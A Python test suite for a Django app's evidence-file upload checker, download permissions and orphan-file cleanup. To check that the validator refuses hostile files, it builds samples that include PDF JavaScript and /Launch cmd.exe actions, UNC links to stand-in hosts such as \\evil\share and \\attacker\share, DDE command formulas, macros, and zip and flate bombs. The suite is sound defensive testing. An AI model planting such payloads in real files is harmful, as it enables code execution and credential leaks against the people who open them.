"""Evidence files: checked by content before they are stored, and downloadable by
exactly those who may see the month they belong to."""

import base64
import io
import os
import random
import zipfile
import zlib
from datetime import UTC, date, datetime, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from openpyxl import Workbook

from reporting.models import Evidence, MonthlyReport
from reporting.orphan_files import orphan_files_delete
from reporting.services import evidence_add, item_progress_save
from reporting.transitions import report_submit
from tasks.models import ChecklistItem
from units.models import Unit
from units.roles import Role
from yuecheng_housing.lib.evidence import MAX_EVIDENCE_BYTES, evidence_content_type

pytestmark = pytest.mark.django_db

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
# The smallest valid PNG: a 1×1 transparent pixel.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def office(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/padding.bin", "w") as part:
            for _ in range(40):
                part.write(b"\0" * (1024 * 1024))
    return buffer.getvalue()


def check(name: str, data: bytes) -> str:
    return evidence_content_type(SimpleUploadedFile(name, data))


@pytest.mark.parametrize(
    "name, data, code",
    [
        ("纪要.pdf", PDF + b"<script>alert(1)</script>", "trailing"),
        ("纪要.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript"
                                 b" /JS (app.alert(1)) >>"), "pdf_script"),
        ("纪要.pdf", PDF.replace(b"endobj", b"endobj <html><body>"), "active_content"),
        ("现场.gif", b"GIF89a/*\x01\x00\x00\x00\x00*/=alert(1);", "polyglot"),
        ("现场.png", PNG + b"<html><script>alert(1)</script>", "trailing"),
        ("方案.docx", office({"word/document.xml": b"<w:document/>",
                            "word/embeddings/ole1.bin": b"MZ\x90"}), "program"),
        ("方案.docx", office({"word/document.xml": b"<w:document/>",
                            "word/media/setup.exe": b"MZ\x90\x00"}), "program"),
        ("方案.docx", office({"word/document.xml": b"<w:document/>",
                            "word/media/image1.png": b"MZ\x90\x00"}), "program"),
        ("方案.docx", bomb(), "zip_bomb"),
        ("方案.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode(
            "utf-16-le"), "program"),
        ("报告.pdf", b"MZ\x90\x00" + b"\x00" * 100, "bad_type"),
    ],
)  # fmt: skip
def test_hostile_files_are_refused_with_a_reason(name, data, code):
    with pytest.raises(ValidationError) as refused:
        check(name, data)
    assert refused.value.code == code
    assert name in refused.value.messages[0]


def test_ordinary_files_are_accepted():
    assert check("纪要.pdf", PDF) == "application/pdf"
    assert check("现场.png", PNG) == "image/png"
    book = io.BytesIO()
    Workbook().save(book)
    assert check("台账.xlsx", book.getvalue()).endswith("spreadsheetml.sheet")


@pytest.fixture
def evidence(plan, make_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    writer = make_user("wang", Role.REPORTER, ["区建设局"])
    progress = item_progress_save(
        user=writer,
        unit=Unit.objects.get(name="区建设局"),
        item=ChecklistItem.objects.get(entry__seq=1, position=1),
        period=date(2023, 6, 1),
        status="in_progress",
    )
    upload = SimpleUploadedFile("会议纪要.pdf", PDF)
    return evidence_add(user=writer, progress=progress, upload=upload)


def download(user, evidence):
    client = Client()
    if user is not None:
        client.force_login(user)
    return client.get(f"/evidence/{evidence.pk}/")


def test_the_writer_downloads_a_draft_as_an_attachment(evidence):
    response = download(evidence.uploaded_by, evidence)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "%E4%BC%9A%E8%AE%AE%E7%BA%AA%E8%A6%81.pdf" in response["Content-Disposition"]
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_others_see_it_only_once_the_month_is_submitted(evidence, make_user):
    official = make_user("leader", Role.OFFICIAL)
    other = make_user("li", Role.REPORTER, ["区民政局"])
    assert download(official, evidence).status_code == 404
    assert download(other, evidence).status_code == 404
    assert download(None, evidence).status_code == 302  # to the login page
    report = MonthlyReport.objects.get()
    report_submit(user=evidence.uploaded_by, report=report)
    assert download(official, evidence).status_code == 200
    assert download(other, evidence).status_code == 200


def test_a_file_missing_from_disk_is_a_404_not_a_500(evidence):
    evidence.file.storage.delete(evidence.file.name)
    response = download(evidence.uploaded_by, evidence)
    assert response.status_code == 404


def test_a_refused_file_leaves_nothing_on_disk(evidence, tmp_path):
    before = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    with pytest.raises(ValidationError):
        evidence_add(
            user=evidence.uploaded_by,
            progress=evidence.progress,
            upload=SimpleUploadedFile("x.pdf", PDF + b"<script>"),
        )
    assert sorted(p for p in tmp_path.rglob("*") if p.is_file()) == before
    assert Evidence.objects.count() == 1


def pdf_with_stream(body: bytes, header: bytes = b"/Filter /DCTDecode") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj << /Length " + str(len(body)).encode() + b" " + header
        + b" >> stream\n" + body + b"\nendstream endobj\n"
        + b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )  # fmt: skip


def test_bytes_inside_compressed_streams_are_not_read_as_syntax():
    # A scanned page: 3 MB of image data in which "/JS" and "<html" occur by chance.
    noise = random.Random(7).randbytes(3 * 1024 * 1024)
    scan = pdf_with_stream(noise[:1000] + b"/JS <html " + noise[1000:])
    assert check("扫描件.pdf", scan) == "application/pdf"
    photo = b"\xff\xd8\xff\xe0" + noise[:4000] + b"<script" + noise[4000:] + b"\xff\xd9"
    assert check("现场.jpg", photo) == "image/jpeg"


@pytest.mark.parametrize(
    "name, data, code",
    [
        ("纪要.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S "
                                 b"/J#61vaScript /JS (x) >>"), "pdf_script"),
        ("纪要.pdf", pdf_with_stream(zlib.compress(b"<< /S /JavaScript /JS (x) >>"),
                                     b"/Type /ObjStm /Filter /FlateDecode"),
         "pdf_script"),
        ("方案.docx", office({"word/document.xml": b"<w:document/>",
                            "word/_rels/document.xml.rels":
                            b'<Relationships><Relationship Id="r1" Type="http://'
                            b'schemas.openxmlformats.org/officeDocument/2006/'
                            b'relationships/oleObject" Target="http://x/y.html!" '
                            b'TargetMode="External"/></Relationships>'}), "remote"),
        ("安装.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200, "bad_type"),
    ],
)  # fmt: skip
def test_hidden_scripts_remote_parts_and_installers_are_refused(name, data, code):
    with pytest.raises(ValidationError) as refused:
        check(name, data)
    assert refused.value.code == code


def test_a_chart_inside_a_document_is_ordinary():
    book = io.BytesIO()
    Workbook().save(book)
    docx = office({
        "word/document.xml": b"<w:document/>",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": book.getvalue(),
        "word/_rels/document.xml.rels":
            b'<Relationships><Relationship Id="r1" Type="http://schemas.openxml'
            b'formats.org/officeDocument/2006/relationships/hyperlink" '
            b'Target="https://www.sx.gov.cn/" TargetMode="External"/></Relationships>',
    })  # fmt: skip
    assert check("方案.docx", docx).endswith("wordprocessingml.document")


def test_a_file_downloads_under_the_extension_of_what_it_is(evidence):
    evidence.original_name = "setup.msi"
    evidence.save()
    response = download(evidence.uploaded_by, evidence)
    assert response["Content-Disposition"] == 'attachment; filename="setup.pdf"'


def object_stream(objects: bytes, filters: list[str], encode) -> bytes:
    """A PDF whose dictionaries sit in an object stream packed with `filters`."""
    names = " ".join(f"/{f}" for f in filters)
    return pdf_with_stream(encode(objects), f"/Type /ObjStm /N 1 /Filter [{names}]"
                           .encode())  # fmt: skip


def hex_then_flate(data: bytes) -> bytes:
    # Filters are undone in order: ASCIIHex first, then Flate.
    return zlib.compress(data).hex().encode() + b">"


def a85_then_run_length(data: bytes) -> bytes:
    run = bytes([len(data) - 1]) + data + b"\x80"  # one literal run of ≤128 bytes
    return base64.a85encode(run) + b"~>"


@pytest.mark.parametrize(
    "data, code, named",
    [
        (object_stream(b"<< /S /GoToR /F (\\\\evil\\share\\x.pdf) >>",
                       ["ASCIIHexDecode", "FlateDecode"], hex_then_flate),
         "pdf_action", "/GoToR"),
        (object_stream(b"<< /S /Launch /F (cmd.exe) >>",
                       ["ASCII85Decode", "RunLengthDecode"], a85_then_run_length),
         "pdf_action", "/Launch"),
        (pdf_with_stream(zlib.compress(b"<< /S /J#53 (app.alert(1)) >>"),
                         b"/Type /Obj#53tm /Filter /Fl#61teDecode"),
         "pdf_script", "JavaScript"),
        (PDF.replace(b"/Catalog", b"/Catalog /AcroForm << /S /SubmitForm >>"),
         "pdf_action", "/SubmitForm"),
        (PDF.replace(b"/Catalog", b"/Catalog /AA << /S /Import#44ata >>"),
         "pdf_action", "/ImportData"),
        (PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /J#61vaScript >>"),
         "pdf_script", "JavaScript"),
    ],
)  # fmt: skip
def test_pdf_actions_hidden_by_escapes_and_filters_are_named(data, code, named):
    with pytest.raises(ValidationError) as refused:
        check("通知.pdf", data)
    assert refused.value.code == code
    assert named in refused.value.messages[0]


def test_a_flate_bomb_in_an_object_stream_is_refused_without_unpacking_it():
    # 256 MB of zeros pack into 250 KB; the check stops unpacking after 5 MB.
    engine = zlib.compressobj(9)
    chunk = engine.compress(b"\0" * (64 * 1024 * 1024))
    packed = b"".join([chunk] + [engine.compress(b"\0" * (64 * 1024 * 1024))
                                 for _ in range(3)] + [engine.flush()])  # fmt: skip
    data = pdf_with_stream(packed, b"/Type /ObjStm /Filter /FlateDecode")
    assert len(data) < MAX_EVIDENCE_BYTES
    with pytest.raises(ValidationError) as refused:
        check("扫描件.pdf", data)
    assert refused.value.code == "pdf_bomb"


def test_an_object_stream_that_cannot_be_unpacked_is_refused():
    data = pdf_with_stream(b"\xff\xd8 << /S /JavaScript >>",
                           b"/Type /ObjStm /Filter /DCTDecode")  # fmt: skip
    with pytest.raises(ValidationError) as refused:
        check("扫描件.pdf", data)
    assert refused.value.code == "pdf_unreadable"
    assert "无法解开的对象流" in refused.value.messages[0]


def test_an_ordinary_object_stream_is_accepted():
    data = object_stream(b"<< /Type /Page /Contents 4 0 R >>",
                         ["ASCIIHexDecode", "FlateDecode"], hex_then_flate)  # fmt: skip
    assert check("纪要.pdf", data) == "application/pdf"


def xlsx_with(fill) -> bytes:
    book = Workbook()
    fill(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes]) -> bytes:
    """An Office file with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            if entry.filename not in parts:
                target.writestr(entry, source.read(entry))
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*relationships: bytes) -> bytes:
    return b"<Relationships>" + b"".join(relationships) + b"</Relationships>"


def xlsx_dde_link() -> bytes:
    def fill(sheet):
        sheet["A1"] = 1

    return with_parts(xlsx_with(fill), {
        "xl/externalLinks/externalLink1.xml":
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            b'2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems>'
            b'<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
    })  # fmt: skip


def xlsx_dde_formula() -> bytes:
    def fill(sheet):
        sheet["A1"] = "=cmd|'/c calc'!A1"

    return xlsx_with(fill)


def docx(parts: dict[str, bytes]) -> bytes:
    return office({"word/document.xml": b"<w:document/>", **parts})


@pytest.mark.parametrize(
    "name, data, code, named",
    [
        ("台账.xlsx", xlsx_dde_link(), "dde", "DDE"),
        ("台账.xlsx", xlsx_dde_formula(), "dde", "=cmd|'/c calc'!A1"),
        ("方案.docx", docx({
            "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><script>",
            "word/_rels/document.xml.rels": rels(
                b'<Relationship Id="r9" Type="' + REL + b'aFChunk" '
                b'Target="afchunk.mht"/>'),
        }), "program", "altChunk"),
        ("方案.docx", docx({
            "word/document.xml": b'<w:document><w:fldSimple w:instr=" DDEAUTO '
                                 b'c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"'
                                 b'/></w:document>',
        }), "dde", "DDE"),
        ("方案.docx", docx({
            "word/document.xml": b"<w:document><w:r><w:instrText>DD</w:instrText>"
                                 b"</w:r><w:r><w:instrText>EAUTO cmd</w:instrText>"
                                 b"</w:r></w:document>",
        }), "dde", "DDE"),
        ("台账.xlsx", with_parts(xlsx_with(lambda s: None), {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }), "program", "宏"),
        ("台账.xlsx", with_parts(xlsx_with(lambda s: None), {
            "[Content_Types].xml": b'<Types><Override PartName="/xl/workbook.xml" '
            b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
            b"</Types>",
        }), "program", "宏"),
        ("方案.docx", docx({
            "word/_rels/document.xml.rels": rels(
                b'<Relationship Id="r1" Type="' + REL + b'oleObject" '
                b'Target="embeddings/oleObject1.xlsx"/>'),
        }), "program", "OLE"),
        ("方案.docx", docx({
            "word/_rels/document.xml.rels": rels(
                b'<Relationship Id="r1" Type="' + REL + b'image" '
                b'Target="\\\\\\\\attacker\\\\share\\\\a.png" TargetMode="External"/>'),
        }), "remote", "image"),
        ("台账.xlsx", with_parts(xlsx_with(lambda s: None), {
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                b"<Relationship Id='r1' Type='" + REL + b"externalLinkPath' "
                b"Target='file:///C:/a.xlsx' TargetMode='External'/>"),
        }), "remote", "externalLinkPath"),
    ],
)  # fmt: skip
def test_office_files_that_run_or_fetch_something_are_refused(name, data, code, named):
    with pytest.raises(ValidationError) as refused:
        check(name, data)
    assert refused.value.code == code
    assert named in refused.value.messages[0]


def test_ordinary_formulas_and_links_are_accepted():
    def fill(sheet):
        sheet["A1"], sheet["B1"] = 1, 2
        sheet["C1"] = "=SUM(A1:B1)"
        sheet["D1"] = '=A1&"|"&B1&"!"'  # a pipe inside text is not a DDE link

    assert check("台账.xlsx", xlsx_with(fill)).endswith("spreadsheetml.sheet")
    text = docx({"word/document.xml": b"<w:document><w:t>DDE \xe8\xaf\xb4\xe6\x98\x8e"
                                      b"</w:t><w:instrText>PAGE</w:instrText>"
                                      b"</w:document>"})  # fmt: skip
    assert check("方案.docx", text).endswith("wordprocessingml.document")


def test_orphan_files_past_the_grace_period_are_deleted(evidence, tmp_path):
    # What a server killed between writing the file and its row leaves behind.
    now = datetime(2023, 7, 10, 12, tzinfo=UTC)
    stale = tmp_path / "evidence" / "2023" / "06" / "0f0f"
    in_flight = tmp_path / "hazards" / "2023" / "07" / "a1a1"
    elsewhere = tmp_path / "exports" / "old.xlsx"
    for path, age in [(stale, timedelta(days=3)), (in_flight, timedelta(minutes=5)),
                      (elsewhere, timedelta(days=30))]:  # fmt: skip
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(PDF)
        stamp = (now - age).timestamp()
        os.utime(path, (stamp, stamp))
    named = tmp_path / evidence.file.name
    old = (now - timedelta(days=30)).timestamp()
    os.utime(named, (old, old))

    found = orphan_files_delete(now=now, dry_run=True)
    assert [o.name for o in found] == ["evidence/2023/06/0f0f"]
    assert stale.exists()
    orphan_files_delete(now=now)
    assert not stale.exists()
    assert in_flight.exists() and elsewhere.exists() and named.exists()


def test_a_file_the_audit_still_names_is_kept(evidence, tmp_path):
    name = evidence.file.name
    Evidence.objects.filter(pk=evidence.pk).delete()  # the history keeps the name
    now = datetime(2030, 1, 1, tzinfo=UTC)
    assert orphan_files_delete(now=now) == []
    assert (tmp_path / name).exists()


def test_the_command_says_what_it_did_in_chinese(evidence, tmp_path):
    stale = tmp_path / "evidence" / "2020" / "01" / "dead"
    stale.parent.mkdir(parents=True)
    stale.write_bytes(b"x" * 10)
    os.utime(stale, (0, 0))
    out = io.StringIO()
    call_command("clean_orphan_files", "--dry-run", stdout=out)
    assert "将删除：evidence/2020/01/dead（10 字节）" in out.getvalue()
    assert "试运行：共 1 个无主文件（10 字节），未删除。" in out.getvalue()
    assert stale.exists()
    out = io.StringIO()
    call_command("clean_orphan_files", stdout=out)
    assert "共删除 1 个无主文件（10 字节）。" in out.getvalue()
    assert not stale.exists()
    with pytest.raises(CommandError, match="宽限期不能少于1小时"):
        call_command("clean_orphan_files", "--grace-hours", "0")
